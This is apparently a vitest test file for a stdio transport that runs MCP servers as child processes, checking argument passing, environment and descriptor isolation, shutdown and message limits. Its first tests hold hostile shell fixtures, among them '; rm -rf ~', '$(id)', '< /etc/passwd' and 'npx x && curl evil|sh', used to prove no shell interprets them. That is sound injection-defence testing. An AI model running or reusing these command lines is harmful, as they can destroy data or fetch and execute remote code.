import { readFileSync } from 'node:fs'
import { setTimeout as wait } from 'node:timers/promises'
import type { JSONRPCMessage } from '@modelcontextprotocol/client'
import * as z from 'zod'
import { expect, it } from 'vitest'
import type { ToolResult } from '../../shared/domain/toolResult'
import type { Row } from '../storage/database'
import { isAlive, startOf, type ProcessIdentity } from './processIdentity'
import { StdioTransport } from './stdioTransport'
import { define, failureOf, faulty, serverId, testPool } from '../connections/testing/poolFixture'

const identityOf = ({ pid, started }: Row): ProcessIdentity => ({ pid: Number(pid), started: String(started) })

const limits = { bytes: 1_000, values: 1_000 }
const textOf = (result: ToolResult): string => (result.content[0]?.type === 'text' ? result.content[0].text : '')
const Words = z.array(z.string())

it('C01: hands every argument to the program byte for byte, whatever a shell would make of it', async () => {
  // prettier-ignore
  const hostile = [
      '; rm -rf ~', '`id`', '$(id)', '$HOME', '${PATH}', '%COMSPEC%', '%PATH%', '!x!', '^&', '&& id', '|| id', '| sh', '> /tmp/x', '< /etc/passwd',
      '*', '?', '[a-z]', '~', '~root', '{a,b}', '#', '!!', '\\', '\\\\', '\\n', '\n', '\r\n', '\t', '"', '""', "'", "''", '\'"\'', ' ', '  ', '',
      '-', '--', '--eval=1', '-rf', '@file', '(x)', ')', '<>', '=', 'a=b', '\u0001', '\u001b[31m', '\u202e', 'é', '漢字', '😀', '\ufeff', '\u2028',
      'C:\\Windows\\System32', '\\\\server\\share', '/../../etc', 'a'.repeat(5_000), '%', '%%', '^', '`',
  ]
  await using test = testPool([define('argv', faulty('good', ...hostile))])
  await test.pool.start(serverId('argv'))
  const argv = Words.parse(JSON.parse(textOf(await test.call('argv', 'argv'))))
  expect(argv).toEqual(['good', ...hostile])
})

it('C01: refuses a command with a NUL character', async () => {
  await using test = testPool([define('nul', faulty('good', 'a\0b'))])
  const error = await failureOf(test.pool.start(serverId('nul')))
  expect(error).toMatchObject({ code: 'INVALID_INPUT', reason: 'transport.nulInCommand' })
})

it('C01: takes a command with shell signs for the name of a program', async () => {
  await using test = testPool([define('shell', { kind: 'stdio', command: 'npx x && curl evil|sh', args: [], env: {} })])
  expect((await failureOf(test.pool.start(serverId('shell')))).code).toBe('COMMAND_NOT_FOUND')
})

it('C06: gives a server the safe variables and what was typed for it, and nothing else of the host', async () => {
  process.env['PARLEY_TEST_SECRET'] = 'no-server-gets-this'
  await using test = testPool([
    define('plain', faulty('good')),
    define('typed', {
      ...faulty('good'),
      kind: 'stdio',
      command: process.execPath,
      args: [...argsOf('good')],
      env: { KEY: { secret: 'k' }, B: '1' },
    }),
  ])
  const keysOf = async (name: string): Promise<string[]> => {
    await test.pool.start(serverId(name))
    return Object.keys(z.record(z.string(), z.string()).parse(JSON.parse(textOf(await test.call(name, 'env')))))
  }
  const safe = ['HOME', 'LOGNAME', 'PATH', 'SHELL', 'TERM', 'USER']
  const plain = await keysOf('plain')
  const typed = await keysOf('typed')
  delete process.env['PARLEY_TEST_SECRET']
  expect({ plain: plain.filter((key) => !safe.includes(key)), typed: typed.filter((key) => !safe.includes(key)).toSorted() }).toEqual({
    plain: [],
    typed: ['B', 'KEY'],
  })
})

it.runIf(process.platform === 'linux')('C07: gives a server its three pipes and no other descriptor of the host', async () => {
  await using test = testPool([define('fds', faulty('good'))])
  await test.pool.start(serverId('fds'))
  const open = z.array(z.tuple([z.string(), z.string()])).parse(JSON.parse(textOf(await test.call('fds', 'descriptors'))))
  const foreign = open.filter(([fd, target]) => Number(fd) > 2 && /parley|\.db|socket:/.test(target))
  expect(foreign).toEqual([])
})

it('C08, ST-05, ST-11: ends a server that ignores stdin and SIGTERM, and its helpers also where they left its group', async () => {
  const transports = ['stubborn', 'helper', 'helper-away'].map((mode) => open(argsOf(mode)))
  await Promise.all(transports.map((transport) => transport.start()))
  const helpers = await Promise.all(transports.slice(1).map(helperOf))
  const processes = [...transports.map((transport) => transport.pid ?? 0), ...helpers].map((pid) => ({ pid, started: startOf(pid) ?? '' }))
  const before = processes.map(isAlive)
  await Promise.all(transports.map((transport) => transport.close()))
  await until(() => !processes.some(isAlive))
  expect(before).toEqual([true, true, true, true, true])
})

it.runIf(process.platform !== 'win32')(
  'ST-05: closes stdin first, then sends SIGTERM, and lets a server that ends by itself end',
  async () => {
    const transports = ['endsWithStdin', 'endsAtSigterm'].map((kind) => {
      const script = `const say = (word) => process.stderr.write(word + '\\n')
      process.on('SIGTERM', () => { say('SIGTERM'); process.exit(0) })
      process.stdin.resume().on('end', () => { say('stdin closed'); if (${kind === 'endsWithStdin'}) process.exit(0) })
      setInterval(() => {}, 1000); say('up')`
      return open(['-e', script])
    })
    await Promise.all(transports.map((transport) => transport.start()))
    await until(() => transports.every(({ output }) => output.read(1_000).text.includes('up')))
    await Promise.all(transports.map((transport) => transport.close()))
    expect(transports.map(({ output }) => output.read(1_000).text.trim().split('\n'))).toEqual([
      ['up', 'stdin closed'],
      ['up', 'stdin closed', 'SIGTERM'],
    ])
  },
)

it.runIf(process.platform !== 'win32')(
  'C08, ST-05: ends a helper that is started in a group of its own while its server is ending',
  async () => {
    const script = `const helper = (when) => {
      const { pid } = require('child_process').spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { detached: true, stdio: 'ignore' })
      process.stderr.write(when + ' ' + pid + '\\n')
    }
    process.on('SIGTERM', () => helper('late'))
    process.stdin.resume().on('end', () => helper('early'))
    setInterval(() => {}, 1000); process.stderr.write('up\\n')`
    const transport = open(['-e', script], { flushMs: 1_000, termMs: 1_000 })
    await transport.start()
    await until(() => transport.output.read(1_000).text.includes('up'))
    await transport.close()
    const helpers = [...transport.output.read(1_000).text.matchAll(/(?:early|late) (\d+)/g)].map(([, pid]) => Number(pid))
    await until(() => helpers.every((pid) => startOf(pid) === undefined))
    expect(helpers).toHaveLength(2)
  },
)

it('ST-11: closes every server in under five seconds', async () => {
  const test = testPool([define('stubborn', faulty('stubborn')), define('helper', faulty('helper')), define('good', faulty('good'))])
  await Promise.all(['stubborn', 'helper', 'good'].map((name) => test.pool.start(serverId(name))))
  const children = test.database.all('SELECT pid, started FROM child').map(identityOf)
  const startedAt = performance.now()
  await test.pool[Symbol.asyncDispose]()
  const took = performance.now() - startedAt
  const left = test.database.all('SELECT * FROM child')
  await test[Symbol.asyncDispose]()
  expect({ had: children.length, alive: children.filter(isAlive), left, inTime: took < 5_000 }).toEqual({
    had: 3,
    alive: [],
    left: [],
    inTime: true,
  })
})

it('C08: ends a call when the process ends, even while a helper holds its pipe', async () => {
  await using test = testPool([define('holds', faulty('helper-away'))])
  await test.pool.start(serverId('holds'))
  const error = await failureOf(test.call('holds', 'crash'))
  const helper = Number(/helper (\d+)/.exec(test.pool.output(serverId('holds')).text)?.[1])
  const stillHolds = process.kill(helper, 'SIGKILL')
  expect({ code: error.code, stillHolds }).toEqual({ code: 'SERVER_EXITED', stillHolds: true })
})

// Catches: on a busy computer, a server that ended by itself is told to have closed its output, and its exit code is lost.
it('knows the exit code of a server that ended, also when it hears of it late', async () => {
  const closesThenEnds = `process.stdout.write('closing\\n', () => { require('node:fs').closeSync(1); setTimeout(() => process.exit(3), 300) })`
  const transport = new StdioTransport({
    command: process.execPath,
    args: ['-e', closesThenEnds],
    env: {},
    limits,
    outputBytes: 1_000,
    onSpawn: () => () => undefined,
  })
  const closed = Promise.withResolvers<void>()
  transport.onclose = closed.resolve
  // This thread is busy from before the server ends until long after, and looks at its timers first then.
  const stall = (): unknown => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1_500)
  transport.onnoise = () => setTimeout(() => setImmediate(stall), 100)
  await transport.start()
  await closed.promise
  expect(transport.exit).toEqual({ code: 3, signal: null })
})

// Catches: this thread hears of the end, is busy for longer than what is left may take, and closes the pipe before it looks into it.
it('gives the last answer of a server that ended while this thread was held up', async () => {
  const beginning = JSON.stringify({ jsonrpc: '2.0', method: 'm' })
  const answersAndEnds = `
    const answer = JSON.stringify({ jsonrpc: '2.0', id: 1, result: { text: 'x'.repeat(70_000) } })
    process.stdin.once('data', () => process.stdout.write(answer + '\\n', () => process.exit(0)))
    console.log(${JSON.stringify(beginning)})`
  const transport = new StdioTransport({
    command: process.execPath,
    args: ['-e', answersAndEnds],
    env: {},
    limits: { bytes: 1_000_000, values: 1_000 },
    outputBytes: 1_000,
    onSpawn: () => () => undefined,
  })
  const received: string[] = []
  const closed = Promise.withResolvers<void>()
  // Until the process ends, no more is read than fits into the buffer of a stream. The rest waits in the pipe.
  transport.ready = () => new Promise(() => undefined)
  transport.onmessage = (message) => {
    received.push('method' in message ? 'began' : 'answered')
    if ('method' in message) void transport.send({ jsonrpc: '2.0', method: 'go' })
  }
  transport.onclose = closed.resolve
  await transport.start()
  while (!transport.exit) await new Promise(setImmediate)
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 400)
  await closed.promise
  expect(received).toEqual(['began', 'answered'])
})

it('ends a server that has closed its stdout, since it can answer nothing any more', async () => {
  await using test = testPool([define('mute', faulty('good'))])
  await test.pool.start(serverId('mute'))
  expect((await failureOf(test.call('mute', 'mute'))).code).toBe('SERVER_EXITED')
})

it('gives all that a server wrote before it ended, in order, also while it had to wait', async () => {
  // They fit into the pipe, because a process that cannot write does not end.
  const lines = 100
  const script = `
    for (let id = 0; id < ${lines}; id++) console.log(JSON.stringify({ jsonrpc: '2.0', method: 'm', params: { id, text: 'x'.repeat(300) } }))
    console.log(JSON.stringify({ jsonrpc: '2.0', id: 1, result: {} }))`
  const transport = new StdioTransport({
    command: process.execPath,
    args: ['-e', script],
    env: {},
    limits: { bytes: 100_000, values: 1_000 },
    outputBytes: 1_000,
    patience: { flushMs: 10, termMs: 200 },
    onSpawn: () => () => undefined,
  })
  const received: unknown[] = []
  const closed = Promise.withResolvers<void>()
  // Nobody ever says that more may be read. The end of the process does.
  transport.ready = () => new Promise(() => undefined)
  transport.onmessage = (message) => received.push('method' in message ? message.params?.['id'] : 'answer')
  transport.onclose = () => {
    received.push('end')
    closed.resolve()
  }
  await transport.start()
  await closed.promise
  expect([received, transport.noise]).toEqual([[...Array.from({ length: lines }, (_, id) => id), 'answer', 'end'], 0])
})

it('J30: says when a server does not read what it is sent, before that fills the memory', async () => {
  const transport = new StdioTransport({
    command: process.execPath,
    args: ['-e', 'setInterval(() => undefined, 1_000)'],
    env: {},
    limits,
    outputBytes: 1_000,
    patience: { flushMs: 10, termMs: 200 },
    onSpawn: () => () => undefined,
  })
  let stalls = 0
  transport.onstalled = () => stalls++
  await transport.start()
  const answer = (id: number, bytes: number): JSONRPCMessage => ({ jsonrpc: '2.0', id, result: { text: 'x'.repeat(bytes) } })
  // The pipe takes some before the first has to wait.
  const sent = Promise.allSettled(Array.from({ length: 3_000 }, (_, id) => transport.send(answer(id, 100))))
  const manySmall = stalls
  const large = Promise.allSettled([transport.send(answer(1, 1_000)), transport.send(answer(2, 1_000))])
  await transport.close()
  const failed = [...(await sent), ...(await large)].filter(({ status }) => status === 'rejected').length
  expect([manySmall > 500, failed, stalls]).toEqual([true, manySmall + 2, failed])
})

it('J30: a message of over 32 MB does not end a server that reads it, nor does what is sent meanwhile', async () => {
  const script = `let bytes = 0
    process.stdin.on('data', (chunk) => {
      bytes += chunk.length
      if (chunk.at(-1) === 10) process.stderr.write(bytes + '\\n')
    })`
  const transport = open(['-e', script])
  let stalls = 0
  transport.onstalled = () => stalls++
  await transport.start()
  const text = 'x'.repeat(33 * 1024 * 1024)
  const message = (id: number, params: Record<string, unknown>): JSONRPCMessage => ({ jsonrpc: '2.0', id, method: 'm', params })
  const messages = [message(0, {}), message(1, { text }), message(2, {}), message(3, {})]
  await Promise.all(messages.map((each) => transport.send(each)))
  const bytes = messages.reduce((sum, each) => sum + JSON.stringify(each).length + 1, 0)
  await until(() => transport.output.read(1_000).text.includes(String(bytes)))
  expect(stalls).toBe(0)
  // What waits behind it counts.
  const flood = await Promise.allSettled([message(4, { text }), message(5, { text }), message(6, {})].map((each) => transport.send(each)))
  await transport.close()
  expect([flood.map(({ status }) => status), stalls]).toEqual([['fulfilled', 'fulfilled', 'rejected'], 1])
})

it('C11: skips noise on stdout, counts it as output, and goes on', async () => {
  await using test = testPool([define('garbage', faulty('garbage'))])
  await test.pool.start(serverId('garbage'))
  const result = await test.call('garbage', 'echo', { rune: 'é😀' })
  expect({ text: textOf(result), shown: test.pool.output(serverId('garbage')).text.includes('Starting server v1.2') }).toEqual({
    text: '{"rune":"é😀"}',
    shown: true,
  })
})

it('C11: loses a message over the limit, fails the calls in flight with the reason, and keeps the connection', async () => {
  await using test = testPool([define('huge', faulty('good'))], { limits: { messageBytes: 1_000_000 } })
  const { connectionId } = await test.pool.start(serverId('huge')).then(() => test.until('huge', 'ready'))
  const error = await failureOf(test.call('huge', 'huge', { bytes: 1_000_001 }))
  const fits = textOf(await test.call('huge', 'huge', { bytes: 999_000 })).length
  expect({ code: error.code, fits, same: (await test.until('huge', 'ready')).connectionId === connectionId }).toEqual({
    code: 'MESSAGE_TOO_LARGE',
    fits: 999_000,
    same: true,
  })
})

it('reads a message of 50 MB in time that grows with its size, where the limit allows it', async () => {
  await using test = testPool([define('huge', faulty('good'))], { limits: { messageBytes: 64_000_000 } })
  await test.pool.start(serverId('huge'))
  const before = process.threadCpuUsage()
  const result = await test.call('huge', 'huge', { bytes: 50_000_000 })
  const { user, system } = process.threadCpuUsage(before)
  // CPU time of this thread only, because the machine may be busy with other work. In microseconds.
  expect({ bytes: textOf(result).length, littleWork: user + system < 8_000_000 }).toEqual({ bytes: 50_000_000, littleWork: true })
})

it('greets a server that ends at an unknown first request once more, without the probe', async () => {
  await using test = testPool([define('touchy', faulty('exit-at-probe'))])
  await test.pool.start(serverId('touchy'))
  const first = await test.until('touchy', 'ready')
  await test.pool.restart(serverId('touchy'))
  expect({ era: first.negotiation.era, again: (await test.until('touchy', 'ready')).negotiation.era }).toEqual({
    era: '2025',
    again: '2025',
  })
})

it('takes a server that is silent at the probe for an older one, and does not probe it again', async () => {
  await using test = testPool([define('silent', faulty('silent-at-probe'))], { limits: { connectMs: 1_500 } })
  await test.pool.start(serverId('silent'))
  await test.pool.restart(serverId('silent'))
  const again = await test.until('silent', 'ready')
  const { records } = await test.traffic.ofServer(serverId('silent'), { limit: 100 })
  const probes = records.filter(({ json }) => json.includes('server/discover'))
  expect({ era: again.negotiation.era, probes: probes.length }).toEqual({ era: '2025', probes: 1 })
})

it('C10, ST-03: stands a flood on stderr, and keeps answering', async () => {
  await using test = testPool([define('flood', faulty('stderr-flood'))], { limits: { stderrBytesKept: 100_000 } })
  await test.pool.start(serverId('flood'))
  const answers = await Promise.all([1, 2, 3].map(() => test.call('flood', 'echo')))
  await until(() => test.pool.output(serverId('flood')).dropped > 10_000_000)
  expect({ answers: answers.length, shown: test.pool.output(serverId('flood')).text.length <= 65_536 }).toEqual({ answers: 3, shown: true })
})

it('says that a server never answered, and leaves no process behind', async () => {
  await using test = testPool([define('never', faulty('never'))], { limits: { connectMs: 600 } })
  const started = failureOf(test.pool.start(serverId('never')))
  const children = () => test.database.all('SELECT pid, started FROM child').map(identityOf)
  await until(() => children().length > 0)
  const [child] = children()
  const error = await started
  expect({ code: error.code, had: child !== undefined, left: child && isAlive(child) }).toEqual({
    code: 'TIMED_OUT',
    had: true,
    left: false,
  })
})

it('stops a server that is still starting at once', async () => {
  await using test = testPool([define('never', faulty('never'))])
  const started = failureOf(test.pool.start(serverId('never')))
  await until(() => test.database.all('SELECT * FROM child').length > 0)
  await test.pool.stop(serverId('never'))
  expect({ code: (await started).code, state: test.pool.states()[serverId('never')] }).toEqual({
    code: 'INTERRUPTED',
    state: { phase: 'stopped', why: 'byUser' },
  })
})

it('names a working folder that does not exist, instead of calling the command missing', async () => {
  await using test = testPool([define('folder', { kind: 'stdio', command: process.execPath, args: [], env: {}, cwd: '/no/such/folder' })])
  const error = await failureOf(test.pool.start(serverId('folder')))
  expect(error).toMatchObject({
    code: 'INVALID_INPUT',
    reason: 'transport.noFolder',
    params: { folder: '/no/such/folder' },
  })
})

it('says that no protocol version fits', async () => {
  await using test = testPool([define('old', faulty('old-version'))])
  expect((await failureOf(test.pool.start(serverId('old')))).code).toBe('PROTOCOL_ERROR')
})

it('a server whose record the disk does not take ends as any other one, as soon as it is closed', async () => {
  // Nobody waits an hour: the end of the process is noticed.
  const transport = open(['-e', 'process.stdin.resume()'], { flushMs: 3_600_000, termMs: 200 }, () => {
    throw new Error('full')
  })
  await expect(transport.start()).rejects.toThrow('full')
  await transport.close()
})

/** Starts a server that gets only a short time to end by itself. */
function open(args: readonly string[], patience = { flushMs: 200, termMs: 200 }, onSpawn = () => () => undefined): StdioTransport {
  return new StdioTransport({
    command: process.execPath,
    args,
    env: {},
    limits,
    outputBytes: 1_000,
    patience,
    onSpawn,
  })
}

/** Checks every few milliseconds. The test's own timeout ends the wait. */
async function until(happened: () => boolean): Promise<void> {
  while (!happened()) await wait(5)
}

async function helperOf(transport: StdioTransport): Promise<number> {
  const found = (): number => Number(/helper (\d+)/.exec(transport.output.read(1_000).text)?.[1] ?? 0)
  await until(() => found() > 0)
  return found()
}

function argsOf(mode: string): readonly string[] {
  const launch = faulty(mode)
  return launch.kind === 'stdio' ? launch.args : []
}

it.runIf(process.platform === 'linux')('makes each server the leader of its own process group', async () => {
  await using test = testPool([define('leader', faulty('good'))])
  await test.pool.start(serverId('leader'))
  const pid = Number(textOf(await test.call('leader', 'pid')))
  const group = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ')[2]
  expect(Number(group)).toBe(pid)
})
